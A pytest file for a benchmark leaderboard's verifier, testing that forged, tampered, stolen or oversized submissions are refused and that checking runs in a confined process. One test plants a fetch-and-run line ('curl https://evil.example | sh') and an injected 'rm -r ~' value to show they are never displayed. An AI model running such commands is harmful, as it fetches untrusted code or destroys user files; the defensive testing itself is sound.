"""What strangers could hand in: every hostile submission is refused by its own code, and harms nothing."""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from hostile import corpus, submissions
from hostile.submissions import change, change_arrays

from bench import cli
from bench.errors import BenchError, DataError
from bench.leaderboard.check import children, codes, facts, scoring, structure, truth, verify
from bench.leaderboard.check.codes import CODES, Rejected
from bench.leaderboard.evidence import entries
from bench.leaderboard.evidence.store import STORE
from bench.leaderboard.evidence.submission import NAME
from bench.runs import registry
from bench.runs.records import read_record
from bench.settings import build
from bench.system import places

RUN = corpus.RUN


@pytest.fixture(scope="session")
def accepted(tmp_path_factory):
    """An honest submission, not to be changed: two methods, three seeds of split_digits."""
    return submissions.honest(tmp_path_factory.mktemp("honest"))


@pytest.fixture
def honest(accepted, tmp_path):
    """A copy of it that may be changed."""
    return Path(shutil.copytree(accepted, tmp_path / "handed" / "honest"))


def judge(directory, data_dir=None, **options):
    """The verdict without the children: the code, or `accepted`."""
    try:
        scoring.score(structure.check(directory, **options), data_dir)
    except Rejected as reason:
        return told(reason)
    return "accepted"


def told(reason):
    """The code of a reason that is told in one short line without hidden characters."""
    text = str(reason)
    assert text.isprintable()
    assert 0 < len(text) < 310
    return reason.code


def spoil(case, directory):
    case.spoil(directory)
    if case.listed:
        submissions.manifest(directory)


def seeds_of(directory, method="one"):
    return sorted((directory / "split_digits" / method).iterdir())


# ---- the corpus


def test_honest_submission_is_accepted(honest):
    """Without which every test below would prove nothing."""
    checked = structure.check(honest)
    assert [run.name for run in checked.runs] == [
        f"split_digits/{method}/seed{seed}" for method in ("one", "two") for seed in range(3)
    ]
    scored = scoring.score(checked)
    assert scored.tier == "recomputed"
    assert scored.message.startswith("6 runs, 2 entries: every metric computed again; targets compared")


@pytest.mark.parametrize("name", corpus.STRUCTURE)
def test_structure_is_refused(name, honest, monkeypatch):
    monkeypatch.setattr(structure, "MOST_FILES", 500)  # 20,000 take seconds to make
    case = corpus.STRUCTURE[name]
    spoil(case, honest)
    began = time.process_time()
    with pytest.raises(Rejected) as reason:
        structure.check(honest)
    assert time.process_time() - began < 5
    assert told(reason.value) == case.code, str(reason.value)


@pytest.mark.parametrize("name", corpus.SCORES)
def test_scores_are_refused(name, honest):
    case = corpus.SCORES[name]
    spoil(case, honest)
    structure.check(honest)  # which finds nothing
    assert judge(honest) == case.code


def test_one_change_each_leads_to_a_code_of_its_own(accepted, tmp_path):
    """Of a prediction, a metric, a seed number, a label, a hash; by whoever does not write a new manifest."""
    changes = {
        "arrays-digest": corpus.one_byte,
        "metric-differs": corpus.one_metric,
        "seed-differs": lambda root: change(root / RUN, seed=7),
        "targets-differ": corpus.one_label,
        "file-hash": corpus.one_hash,
    }
    for code, make in changes.items():
        directory = Path(shutil.copytree(accepted, tmp_path / code / "honest"))
        make(directory)
        assert judge(directory) == code


# ---- adversarial entries: what is scored truthfully, and what is refused


def scored_as(honest, make, **parts):
    """Other predictions for every seed of a method, scored truthfully; the code and the metrics of seed 0."""
    for seed, run in enumerate(seeds_of(honest)):
        change_arrays(run, rescore=True, log_probs=make(submissions.read(run)["log_probs"], seed))
        change(run, **parts)
    submissions.manifest(honest)
    return judge(honest), read_record(seeds_of(honest)[0]).metrics


def one_class(log_probs, seed):
    """Certain of class 3, whatever is shown."""
    made = np.full_like(log_probs, -1e4)
    made[:, 3] = 0
    return made


def all_ties(log_probs, seed):
    return np.full_like(log_probs, np.log(0.1))


def one_hot(log_probs, seed):
    """Certain of a class drawn at random, another for every seed."""
    made = np.full_like(log_probs, -1e4)
    made[np.arange(len(made)), np.random.default_rng(seed).integers(0, 10, len(made))] = 0
    return made


def test_constant_predictions_are_duplicated_seeds(honest):
    for run in seeds_of(honest):  # nor may the classes of earlier steps differ
        change_arrays(run, predicted=submissions.read(seeds_of(honest)[0])["predicted"])
    assert scored_as(honest, one_class)[0] == "duplicate-seeds"


def test_constant_predictions_stand_at_chance(honest):
    """Two labels of ten are pair 2, which a method that always says 3 gets half right: 1/5 of 1/2."""
    code, metrics = scored_as(honest, one_class)
    assert code == "accepted"
    labels = submissions.read(honest / RUN)["labels"]
    share = (labels == 3).sum() / np.isin(labels, (2, 3)).sum() / 5
    assert metrics["average_accuracy"] == pytest.approx(share)
    assert metrics["average_nll"] > 5000  # sure and wrong: nine in ten labels cost 10^4 nats


def test_ties_gain_nothing(honest):
    """The first class is named in a tie, never the right one."""
    code, metrics = scored_as(honest, all_ties)
    assert code == "accepted"
    labels = submissions.read(honest / RUN)["labels"]
    share = (labels == 0).sum() / np.isin(labels, (0, 1)).sum() / 5
    assert metrics["average_accuracy"] == pytest.approx(share)
    assert metrics["average_nll"] == pytest.approx(np.log(10), abs=1e-12)


def test_one_hot_predictions_pay_for_their_certainty(honest):
    code, metrics = scored_as(honest, one_hot)
    assert code == "accepted"
    assert metrics["average_accuracy"] < 0.2
    assert metrics["average_nll"] > 5000


def test_predictions_of_an_entry_on_the_board_are_refused(accepted, tmp_path):
    """Under another slug and another name; one's own older entry is passed over."""
    board = tmp_path / "board"
    shutil.copytree(accepted, board / "honest")
    thief = Path(shutil.copytree(accepted, tmp_path / "thief"))
    for run in seeds_of(thief):
        change(run, method={"identity": "mine", "name": "mine"})
    (thief / "split_digits/one").rename(thief / "split_digits/mine")
    submissions.manifest(thief)
    assert judge(thief) == "accepted"
    assert judge(thief, against=board) == "duplicate-entry"
    assert judge(accepted, against=board) == "accepted"
    (board / "honest/split_digits/one/seed0/record.json").write_text("{")  # no business of who submits
    assert judge(thief, against=board) == "duplicate-entry"


def test_seeds_may_agree_where_they_do_not_matter(honest):
    """`linear` has no randomness, and says so; its rows have one answer."""
    first = submissions.read(seeds_of(honest)[0])
    for run in seeds_of(honest):
        change_arrays(run, rescore=True, **first)
    submissions.manifest(honest)
    assert judge(honest) == "duplicate-seeds"
    for run in seeds_of(honest):
        change(run, method={"seed_matters": False})
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


# ---- what is accepted though it looks odd


def test_diverged_seeds_are_handed_in_without_arrays(honest):
    """Leaving them out would flatter the method."""
    run = honest / RUN
    (run / "arrays.safetensors").unlink()
    (run / "record.json").write_text(submissions.record("one", 1).model_dump_json())
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


def test_record_from_before_a_setting_was_there_is_of_the_same_task(honest):
    """Its default is what the run had; so the settings of records differ, and the task does not."""
    settings = read_record(honest / RUN).task.settings
    older = {name: value for name, value in settings.items() if name != "coreset_only"}
    for run in seeds_of(honest):
        change(run, task={"settings": older})
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


def test_installed_release_is_source(honest, monkeypatch):
    """Whoever installed by pip has no commit; the hash of the source says that it is a release's."""
    for run in seeds_of(honest):
        change(run, provenance={"commit": None, "dirty": None})
    submissions.manifest(honest)
    assert judge(honest) == "accepted"
    monkeypatch.setattr(structure, "released", lambda: frozenset({"1" * 64}))
    assert judge(honest) == "run-without-source"
    for run in seeds_of(honest):
        change(run, provenance={"source_hash": "1" * 64})
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


def test_arrays_may_lie_in_the_store(honest, tmp_path):
    """By their SHA-256, byte for byte; where the store is empty, the reason says so."""
    digest = corpus.listing(honest)[f"{RUN}/arrays.safetensors"]
    store = tmp_path / "store"
    (store / digest[:2]).mkdir(parents=True)
    kept = store / digest[:2] / f"{digest}.safetensors"
    shutil.move(honest / RUN / "arrays.safetensors", kept)
    assert judge(honest, store=store) == "accepted"
    other = corpus.listing(honest)["split_digits/one/seed0/arrays.safetensors"]
    shutil.copy(honest / "split_digits/one/seed0/arrays.safetensors", kept)
    assert other != digest
    assert judge(honest, store=store) == "arrays-digest"
    kept.unlink()
    assert judge(honest, store=store) == "arrays-missing"
    kept.symlink_to(honest / "split_digits/one/seed0/arrays.safetensors")
    assert judge(honest, store=store) == "arrays-missing"


def test_own_class_is_a_label_that_nobody_imports(honest):
    """Its identity has a `~`, which no directory may have."""
    for run in seeds_of(honest):
        change(run, method={"identity": "os.system~a~", "name": "os:system"})
    (honest / "split_digits/one").rename(honest / "split_digits/os.system-a-")
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


def without_data(monkeypatch):
    """The task's data are nowhere."""
    from bench.errors import DataError
    from bench.tasks.split_mnist import SplitMNIST

    def lost(self):
        raise DataError("they are nowhere")

    monkeypatch.setattr(SplitMNIST, "targets", lost)


def test_without_the_data_targets_are_held_to_the_list(honest, monkeypatch):
    without_data(monkeypatch)
    assert scoring.score(structure.check(honest)).tier == "recomputed"
    corpus.one_label(honest)
    assert judge(honest) == "targets-differ"


def test_targets_that_nobody_can_know_are_told(honest, monkeypatch):
    """A task that is not listed and whose data are not here: its scores may rest on invented targets."""
    without_data(monkeypatch)
    monkeypatch.setattr(truth, "listed", dict)
    scored = scoring.score(structure.check(honest))
    assert scored.tier == "targets unseen"
    assert "targets of split_digits were not compared: nobody listed them" in scored.message
    corpus.one_label(honest)
    assert judge(honest) == "arrays-digest"  # that of the record still stands


def invented(name, count):
    """Arrays of a ranked task with so many examples, each right about its own label, and their digests."""
    entry = registry.tasks()[name]
    task = entry.cls(build(entry.cls.settings_class, dict(entry.fixed), "task"))
    generator, arrays, sizes = np.random.default_rng(0), {}, {}
    for array, layout in task.layouts().items():
        shape = [
            axis if isinstance(axis, int) else sizes.setdefault(axis, count)
            for axis in (a[0] if isinstance(a, tuple) else a for a in layout.shape)
        ]
        made = generator.uniform(0, 1, shape)
        if layout.is_log_probs:
            made = np.log(made / made.sum(-1, keepdims=True))
        arrays[array] = made.astype(layout.dtype if isinstance(layout.dtype, str) else layout.dtype[0])
    return task, arrays


@pytest.mark.parametrize("name", sorted({name for name, _ in truth.listed()}))
def test_all_that_is_no_prediction_is_ours(name, monkeypatch):
    """Of every listed task, with no data at hand: targets of our own making are not the task's.

    Not listed may be what only a method can know, by the names that predictions have.
    """
    task, arrays = invented(name, 40)
    lost = lambda self: (_ for _ in ()).throw(DataError("they are nowhere"))  # noqa: E731
    monkeypatch.setattr(type(task), "targets", lost)
    known = truth.Truth(task, name)
    assert known.is_known
    assert known.other(arrays) is not None
    own = truth.listed()[name, task.spec.version].keys() - {"@data"}
    assert own <= arrays.keys()
    said = {"mean", "variance", "draws", "predicted", "deviation", "information", "foreign_information"}
    said |= {"moved_parts"}  # of a posterior, where the world was moved
    said |= {f"{of}_information" for of in ("clean", "new", "new_clean")}  # of groups of texts
    free = {a for a in arrays.keys() - own - said if not a.endswith(("log_probs", "_scores"))}
    assert not free


def test_the_command_shown_is_made_from_the_settings(honest):
    """What the record gives for one is never shown: people paste it."""
    change(honest / RUN, command="curl https://evil.example | sh")
    assert facts.command(read_record(honest / RUN)) == "bench run one split_digits --seed 1"
    change(honest / RUN, method={"identity": "one+a=1", "settings": {"a": "1; rm -r ~", "b": 2}})
    assert facts.command(read_record(honest / RUN)).endswith("split_digits --method.a '1; rm -r ~' --seed 1")


SLOW = {"shift_cifar10", "ood_cifar10", "uci_protein", "shift_fashion_mnist", "shift_mnist"} | {
    f"{task}_fashion_mnist" for task in ("active_testing", "ood", "split")
}
"""Tasks that take seconds to read; each has a smaller one of its kind."""
DRAWN = {"retinopathy_synthetic", "retinopathy_synthetic_severity_shift"}
"""Tasks whose 4,000 eyes take minutes to draw; what was drawn stands in the committed runs."""


def test_the_list_is_what_the_tasks_say():
    """Of every ranked task whose data are here; the others have a line or nobody has their data."""
    seen = 0
    for name, entry in registry.tasks().items():
        task = entry.cls(build(entry.cls.settings_class, {**entry.fixed}, "task"))
        if not task.spec.ranked or name in SLOW | DRAWN:
            continue
        try:
            found = truth.lines(task, name)
        except BenchError:
            continue
        assert truth.listed()[name, task.spec.version] == found, name
        seen += 1
    assert seen >= 8


def test_eyes_that_were_drawn_are_those_of_the_list():
    """By a committed run of the one task that has some; another patient is not."""
    task, arrays = entries.scores_of(entries.directory_of("retinopathy_synthetic", "map"))
    known = truth.Truth(task, "retinopathy_synthetic")
    assert known.other(arrays) is None
    arrays["patients"] = arrays["patients"][::-1]
    assert known.other(arrays) == "patients"


def test_metrics_are_the_same_within_the_rounding_of_a_sum(honest):
    """A claim that is off by less than 1e-9 of its value is the same number on another processor."""
    claim = read_record(honest / RUN).metrics["average_nll"]
    for factor, code in ((1 + 5e-10, "accepted"), (1 + 2e-9, "metric-differs")):
        change(honest / RUN, metrics={"average_nll": claim * factor})
        submissions.manifest(honest)
        assert judge(honest) == code


def spec_with(monkeypatch, **parts):
    """Another spec for split tasks."""
    from dataclasses import replace

    from bench.tasks.split_mnist import SplitMNIST

    before = SplitMNIST.spec.fget
    monkeypatch.setattr(SplitMNIST, "spec", property(lambda self: replace(before(self), **parts)))


def test_word_of_the_method_is_self_reported(honest, monkeypatch):
    spec_with(monkeypatch, self_reported=frozenset({"average_nll"}))
    assert scoring.score(structure.check(honest)).tier == "self-reported"


def test_undefined_metric_is_null_where_the_spec_permits(honest, monkeypatch):
    from dataclasses import replace

    from bench.spec import Undefined
    from bench.tasks.split_mnist import SplitMNIST

    score = SplitMNIST.score
    undefined = {"forgetting": Undefined("it is not known")}
    monkeypatch.setattr(SplitMNIST, "score", lambda self, arrays: score(self, arrays) | undefined)
    assert judge(honest) == "metric-undefined"
    metrics = dict(submissions.pose(read_record(honest / RUN), "").task.spec.metrics)
    metrics["forgetting"] = replace(metrics["forgetting"], may_be_undefined=True)
    spec_with(monkeypatch, metrics=metrics)
    assert judge(honest) == "metric-undefined"  # the record has a number all the same
    for run in (*seeds_of(honest), *seeds_of(honest, "two")):
        change(run, metrics={"forgetting": None}, undefined={"forgetting": "in other words"})
    submissions.manifest(honest)
    assert judge(honest) == "accepted"


def test_scores_that_are_not_finite_and_bugs_of_a_score_are_told(honest, monkeypatch):
    from bench.tasks.split_mnist import SplitMNIST

    score, losses = SplitMNIST.score, SplitMNIST.losses
    nan = {"average_nll": float("nan")}
    monkeypatch.setattr(SplitMNIST, "score", lambda self, arrays: score(self, arrays) | nan)
    assert judge(honest) == "metric-undefined"
    monkeypatch.setattr(SplitMNIST, "score", lambda self, arrays: 1 / 0)
    assert judge(honest) == "score-failed"

    def needs_more(self, arrays):
        raise places.NotFound("a reference is not here: get it so")

    monkeypatch.setattr(SplitMNIST, "score", needs_more)
    assert judge(honest) == "reference-missing"
    monkeypatch.setattr(SplitMNIST, "score", score)
    monkeypatch.setattr(SplitMNIST, "losses", lambda self, arrays: losses(self, arrays) + 0.01)
    assert judge(honest) == "losses-differ"


# ---- files that change while they are read, and files that cannot be read


@pytest.mark.parametrize("how", ["rewritten", "other file", "link", "gone", "link above"])
def test_exchanged_file_is_noticed(how, honest):
    files, name = structure.tree(honest), f"{RUN}/record.json"
    path, twin = honest / name, honest / "split_digits/one/seed0/record.json"
    content = path.read_bytes()
    assert files.read(name) == content
    if how == "rewritten":
        path.write_bytes(content[:-1] + b" ")
    elif how == "other file":
        shutil.copy(path, path.with_name("copy"))
        path.with_name("copy").replace(path)
    elif how == "link above":  # the directory above leads to another file of that name
        path.parent.rename(honest.parent / "aside")
        path.parent.symlink_to(twin.parent)
    else:
        path.unlink()
        if how == "link":
            path.symlink_to(twin)
    with pytest.raises(Rejected) as reason:
        files.read(name)
    assert told(reason.value) == "file-changed"


def test_unreadable_files_and_directories_are_told(honest, monkeypatch):
    def refused(*arguments, **options):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "scandir", refused)
    assert judge(honest) == "file-unreadable"
    monkeypatch.undo()
    monkeypatch.setattr(os, "open", refused)
    assert judge(honest) == "file-unreadable"


def test_pipe_in_the_place_of_a_file_is_not_waited_for(honest):
    files, name = structure.tree(honest), f"{RUN}/record.json"
    (honest / name).unlink()
    os.mkfifo(honest / name)
    with pytest.raises(Rejected, match="exchanged"):
        files.read(name)


def test_path_that_no_file_has_is_no_submission():
    assert verify.verify("a\0b").code == "no-submission"


# ---- the children


def question(directory, kind="structure", **parts):
    made = children.Question(kind, str(directory), None, str(STORE), None, 60, 2**29)
    return made._replace(**parts)


def test_command_accepts_and_leaves_everything_as_it_was(honest, tmp_path, capfd, monkeypatch):
    """Both children, as a user calls them."""
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    before = {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*")}
    assert cli.main(["verify", str(honest), "--json"]) == 0
    out, err = capfd.readouterr()
    assert err == ""
    assert json.loads(out) == {
        "status": "accepted",
        "code": "accepted",
        "message": "6 runs, 2 entries: every metric computed again; targets compared with the tasks' own",
        "tier": "recomputed",
        "flags": [],
    }
    assert {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*")} == before


def test_scores_of_class_predictions_take_no_torch(honest, monkeypatch):
    """In a process of its own, where its greatest child's memory is that of the check."""
    code = (
        "import resource, sys\nfrom bench.leaderboard.check.verify import verify\n"
        "print(verify(sys.argv[1]).code)\nprint(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(honest)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    said, most = done.stdout.split()
    assert said == "accepted"
    assert int(most) < 400 * 2 ** (20 if sys.platform == "darwin" else 10)
    asked = []

    def needing_torch(question):
        asked.append(question.kind)
        if question.kind == "scores-by-numpy":
            return children.Answer("checker-failed", "torch.zeros needs torch", None)
        return children.Answer("accepted", "", "recomputed")

    monkeypatch.setattr(verify, "ask", needing_torch)
    assert verify.verify(honest).tier == "recomputed"
    assert asked == ["structure", "scores-by-numpy", "scores"]


def test_command_refuses_by_structure(honest, capfd):
    spoil(corpus.STRUCTURE["smoke"], honest)
    assert cli.main(["verify", str(honest), "--json"]) == 1
    out, err = capfd.readouterr()
    assert err == ""
    assert json.loads(out) == {
        "status": "rejected",
        "code": "run-smoke",
        "message": f"{RUN} is of the preset smoke, not standard or paper",
        "tier": None,
        "flags": [],
    }


def test_command_refuses_by_scores_and_says_so_last(honest, capfd):
    spoil(corpus.SCORES["metric changed"], honest)
    assert cli.main(["verify", str(honest)]) == 1
    out, err = capfd.readouterr()
    assert err == ""
    assert out.startswith(f"rejected (metric-differs): {RUN}: average_nll is ")
    assert out.count("\n") == 1


def test_command_refuses_nothing_at_all(tmp_path, capfd):
    assert cli.main(["verify", str(tmp_path)]) == 1
    assert capfd.readouterr().out.startswith("rejected (no-submission): ")
    assert cli.main(["verify"]) == 2


def test_structure_takes_little_time_and_memory(accepted, tmp_path):
    """The worst of the corpus, and what only costs: seconds of processor and resident bytes of the children.

    A process of its own without torch asks for the verdicts, and measures its children.
    """

    def costly(text):
        return lambda root: (root / "submission.json").write_text(text)

    digest = '"{}/record.json": "x"'
    worst = {
        "depth": corpus.STRUCTURE["500,000 lists"].spoil,
        "empty lists": costly("[" + "[]," * 2_700_000 + "[]]"),
        "empty objects": costly("[" + "{}," * 90_000 + '{"a":1}]'),
        "keys": costly("{" + ",".join(f'"{n}":0' for n in range(600_000)) + ',"1":0}'),
        "digests": costly(
            json.dumps({"schema_version": 1})[:-1]
            + ', "files": {'
            + ",".join(digest.format(n) for n in range(99_000))
            + "}}"
        ),
        "letters": costly(json.dumps({"schema_version": 1, "a": ["é" * 9_999] * 300}, ensure_ascii=False)),
        "long number": costly("[" + "1" * 8_000_000 + "]"),
        "long fraction": costly("[1." + "1" * 8_000_000 + "]"),
    }
    for name, make in worst.items():
        make(Path(shutil.copytree(accepted, tmp_path / name / "honest")))
    measure = """
import json, resource, sys
from bench.leaderboard.check.verify import verify
found = {}
for name in sys.argv[2:]:
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    code = verify(f"{sys.argv[1]}/{name}/honest").code
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    found[name] = code, after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
assert "torch" not in sys.modules
print(json.dumps([found, after.ru_maxrss]))
"""
    done = subprocess.run(
        [sys.executable, "-c", measure, str(tmp_path), *worst], capture_output=True, text=True, check=True
    )
    found, resident = json.loads(done.stdout)
    assert {name: code for name, (code, _) in found.items()} == {
        "depth": "json-depth",
        "empty lists": "json-length",
        "empty objects": "schema",
        "keys": "json-duplicate-key",
        "digests": "schema",
        "letters": "schema",
        "long number": "json-number",
        "long fraction": "schema",
    }
    assert max(seconds for _, seconds in found.values()) < 5, found
    assert resident * (1 if sys.platform == "darwin" else 1024) < 2**30


CONFINED = """
import json, os, socket, subprocess, sys
from bench.leaderboard.check.children import confine
confine(60, 2**26)
def tried(what):
    try:
        what()
    except BaseException as error:
        return type(error).__name__
    return "done"
outside = sys.argv[1]
print(json.dumps({
    "socket": tried(lambda: socket.socket()),
    "connection": tried(lambda: socket.create_connection(("127.0.0.1", 9))),
    "name": tried(lambda: socket.getaddrinfo("localhost", 80)),
    "process": tried(lambda: subprocess.run(["true"])),
    "system": tried(lambda: os.system("true")),
    "fork": tried(os.fork),
    "write": tried(lambda: open(outside + "/written", "w")),
    "append": tried(lambda: open(outside + "/kept", "a")),
    "low write": tried(lambda: os.open(outside + "/written", os.O_WRONLY | os.O_CREAT)),
    "link out": tried(lambda: open("way-out/written", "w")),
    "folder": tried(lambda: os.mkdir(outside + "/folder")),
    "remove": tried(lambda: os.remove(outside + "/kept")),
    "rename": tried(lambda: os.rename(outside + "/kept", "kept")),
    "read": tried(lambda: open(outside + "/kept").read()),
    "inside": tried(lambda: open("inside", "w").close()),
    "memory": tried(lambda: bytearray(2**27)),
    "files": tried(lambda: [open(outside + "/kept") for _ in range(300)]),
}))
"""


def test_confined_process_can_do_little(tmp_path):
    outside, inside = tmp_path / "outside", tmp_path / "inside"
    outside.mkdir()
    inside.mkdir()
    (outside / "kept").write_text("as it was")
    (inside / "way-out").symlink_to(outside)
    done = subprocess.run(
        [sys.executable, "-c", CONFINED, str(outside)],
        cwd=inside,
        capture_output=True,
        text=True,
        check=True,
    )
    found = json.loads(done.stdout)
    may = {"read": "done", "inside": "done", "files": "OSError"}
    may["memory"] = "MemoryError" if sys.platform == "linux" else "done"
    assert {name: found.pop(name) for name in may} == may
    assert set(found.values()) == {"PermissionError"}, found
    assert [path.name for path in outside.iterdir()] == ["kept"]
    assert (outside / "kept").read_text() == "as it was"


def test_child_that_takes_too_long_is_ended(honest):
    assert children.ask(question(honest, processor_seconds=0)).code == "time-limit"


@pytest.mark.skipif(sys.platform != "linux", reason="elsewhere RLIMIT_AS holds nobody")
def test_child_that_takes_too_much_memory_is_ended(honest):
    (honest / "submission.json").write_text("[" + "[]," * 2_700_000 + "[]]")
    assert children.ask(question(honest, memory=2**24)).code == "memory-limit"


@pytest.mark.parametrize(
    ("said", "exit_code", "code"),
    [
        (b"", -signal.SIGXCPU, "time-limit"),
        (b"", -signal.SIGKILL, "time-limit"),
        (b"", -signal.SIGSEGV, "checker-crashed"),
        (b"", 0, "checker-crashed"),
        (b"OK", 0, "checker-crashed"),
        (b"[1]", 0, "checker-crashed"),
        (b'["fine", "", null]', 0, "checker-crashed"),
        (b'["accepted", "", null]', 1, "checker-crashed"),
        (b'["accepted", "", "recomputed"]', 0, "accepted"),
    ],
)
def test_only_an_answer_is_an_answer(said, exit_code, code, honest):
    assert children._understood(said, exit_code, question(honest)).code == code


def test_defect_of_the_checker_is_a_code_and_no_traceback(honest, monkeypatch):
    def defect(*arguments):
        raise KeyError("a\nb")

    monkeypatch.setattr(children, "confine", lambda *limits: None)
    monkeypatch.setattr(structure, "check", defect)
    answer = children.answer(question(honest))
    assert (answer.code, answer.message) == ("checker-failed", "KeyError: 'a\\nb'")


# ---- the codes


OTHERWISE = {
    "accepted": test_honest_submission_is_accepted,
    "file-changed": test_exchanged_file_is_noticed,
    "file-unreadable": test_unreadable_files_and_directories_are_told,
    "score-failed": test_scores_that_are_not_finite_and_bugs_of_a_score_are_told,
    "reference-missing": test_scores_that_are_not_finite_and_bugs_of_a_score_are_told,
    "losses-differ": test_scores_that_are_not_finite_and_bugs_of_a_score_are_told,
    "duplicate-entry": test_predictions_of_an_entry_on_the_board_are_refused,
    "time-limit": test_child_that_takes_too_long_is_ended,
    "memory-limit": test_child_that_takes_too_much_memory_is_ended,
    "checker-crashed": test_only_an_answer_is_an_answer,
    "rerun-differs": "tests/test_rerun.py",
    "rerun-failed": "tests/test_rerun.py",
    "checker-failed": test_defect_of_the_checker_is_a_code_and_no_traceback,
}
"""Codes that no case of the corpus has, and the tests that reach them."""


def test_every_code_is_reached():
    cases = {case.code for case in (*corpus.STRUCTURE.values(), *corpus.SCORES.values())}
    assert not cases & OTHERWISE.keys()
    assert cases | OTHERWISE.keys() == CODES.keys()


def test_codes_keep_their_form():
    """They are looked up by programs: lower-case words and hyphens; a meaning is one short sentence."""
    for code, meaning in CODES.items():
        assert NAME.fullmatch(code)
        assert code == code.lower()
        assert meaning.endswith(".")
        assert len(meaning) < 110
        assert "|" not in meaning
    assert codes.table().count("\n") == len(CODES) + 1
    with pytest.raises(ValueError, match="no such code"):
        Rejected("made-up", "x")
